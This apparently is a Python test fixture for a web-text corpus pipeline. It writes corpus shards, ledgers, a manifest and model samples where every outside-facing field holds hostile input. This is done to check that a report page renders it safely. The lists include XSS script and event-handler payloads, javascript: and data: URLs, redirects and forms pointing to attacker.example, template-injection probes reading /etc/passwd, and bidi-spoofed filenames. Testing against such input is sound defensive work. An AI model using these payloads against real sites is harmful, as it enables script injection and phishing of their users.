"""A finished corpus in which every text that can come from outside is an attack on the page that shows it."""

import hashlib
import json
from pathlib import Path

import pyarrow as pa
from corpus_made import rows

from pipeline.manifest import SCHEMA
from pipeline.schema import CORPUS, LedgerRow
from pipeline.shards import batches_of, write_arrow, write_ledger

OWNED = "window.owned=true;document.title='owned'"
ATTACKS = [
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"</title></style><script>{OWNED}</script>",
    f"\"'><img src=x onerror=\"{OWNED}\">",
    f"<svg onload={OWNED}>",
    f"</svg><style>*{{display:none!important}}</style><script>{OWNED}</script>",
    "<iframe src='https://attacker.example/'></iframe><base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<form action='https://attacker.example/'><button>Show more</button></form>",
    "{{ 7 * 191 }} {% include '/etc/passwd' %} ${7 * 191} #{7 * 191}",
    "<!-- <![CDATA[ ]]> --> <!doctype html></html>",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200e\u200f\u061c\ufeff \u2028\u2029",
    "\x00\x07\x08\x1b[31mred\x1b[0m\x7f\x85\x9b31m",
    "Z" + "\u0301\u0489\u20dd" * 400 + "algo",
    "W" * 1_000_000,
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 123",
    "&lt;b&gt;&amp;#60;script&#62; &#x202e;",
]
URLS = [
    f"javascript:{OWNED}",
    f"JaVaScRiPt://attacker.example/%0a{OWNED}",
    f"data:text/html,<script>{OWNED}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.example/",
    "https://attacker.example/\"onmouseover=\"" + OWNED,
    "https://attacker.example/\u202egnp.exe",
    "https://attacker.example/" + "a" * 1_000_000,
    "https://user:word@attacker.example/<b>bold</b>",
    "http://<script>/",
]  # fmt: skip


def hostile_corpus(root: Path) -> Path:
    """ROOT with shards, ledger, manifest, run.json and samples of a model, all of them hostile."""
    made = rows(len(ATTACKS) + len(URLS) + 8, seed=3)
    for number, attack in enumerate(ATTACKS):
        made[number] |= {"title": attack, "text": attack, "domain": attack[:300], "subreddit": attack, "cluster_size": number + 2}
        made[number] |= {"language": attack[:200], "text_hash": hashlib.sha256(attack.encode()).hexdigest()}
    for number, url in enumerate(URLS, len(ATTACKS)):
        made[number] |= {"url": url, "title": "", "cluster_size": 30}
    name = "data/train-00000-of-00001.arrow"
    write_arrow(str(root / "corpus" / name), CORPUS, batches_of(pa.Table.from_pylist(made, schema=CORPUS)))
    drops = [
        LedgerRow("links", "SCHEME", url, None, f"submission=x karma=7 {attack}")
        for url, attack in zip([*URLS, None], [*ATTACKS, *ATTACKS], strict=False)
    ]
    drops += [
        LedgerRow("documents", "WRONG_LANGUAGE", f"https://a.example/{number}", "k", f"language={attack[:60]}")
        for number, attack in enumerate(ATTACKS)
    ]
    drops += [LedgerRow("documents", attack[:60], attack, attack, attack) for attack in ATTACKS]
    folded = [
        LedgerRow("duplicates", "EXACT_DUPLICATE", url, "k", attack, str(row["id"]))
        for row in made
        for url, attack in zip(URLS, ATTACKS, strict=False)
    ]
    files, stages, entered = [], [], len(made) + len(drops) + len(folded)
    for stage in ("links", "documents", "duplicates"):
        file = write_ledger(str(root), stage, 0, [row for row in [*drops, *folded] if row.stage == stage])
        files.append({"path": f"ledger/{file.name}", "rows": file.rows, "bytes": 0, "sha256": file.sha256})
        stages.append({"name": stage, "in": entered, "kept": entered - file.rows, "dropped": file.dropped})
        entered -= file.rows
    manifest = {
        "schema": SCHEMA,
        "config": {"exclude_subreddits": ATTACKS[:5], "language": ATTACKS[0]},
        "inputs": [{"path": f"dumps/{attack[:200]}", "size": 1, "sha256": "0" * 64} for attack in ATTACKS],
        "stages": stages,
        "shards": [{"path": name, "split": "train", "rows": len(made), "bytes": 0, "sha256": "0" * 64}],
        "ledger": files,
        "versions": {"python": "3.11", "webtext": ATTACKS[0]},
    }
    (root / "corpus" / "manifest.json").write_text(json.dumps(manifest))
    stage = {"shards": 1, "seconds": 1.5, "kept": 1, "dropped": 1}
    run = {"seconds": 2.0, "workers": 1, "documents_per_second": 3.0, "stages": {ATTACKS[0]: stage}}
    (root / "run.json").write_text(json.dumps(run))
    (root / "model" / "samples").mkdir(parents=True)
    (root / "model" / "metrics.jsonl").write_text('{"step": 1, "loss": 3.5}\n{"step": 1, "validation_loss": 3.25}\n{"step": 2')
    for number, attack in enumerate(ATTACKS[:3]):
        (root / "model" / "samples" / f"step-{number:08d}.txt").write_text(attack)
    return root
